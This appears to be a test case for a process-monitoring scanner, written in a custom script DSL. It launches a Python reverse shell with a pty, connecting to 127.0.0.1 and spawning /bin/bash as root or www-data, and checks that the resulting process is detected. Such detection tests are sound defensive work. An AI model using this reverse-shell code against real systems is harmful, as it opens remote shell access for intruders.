# id: K112
# mode: scan
# level: suspicious
# title: a shell with a terminal of its own whose parent holds the connection
# due: now
some_port port
pick user root www-data
other_end "$port" "$user"
start -u "$user" python3 -c "
import os, pty, socket
s = socket.create_connection(('127.0.0.1', $port))
for number in range(3):
    os.dup2(s.fileno(), number)
pty.spawn('/bin/bash')"
wait_for starts -x -P "$pid" bash
said pid "$pid"
said pid "$(pgrep -x -P "$pid" bash)"
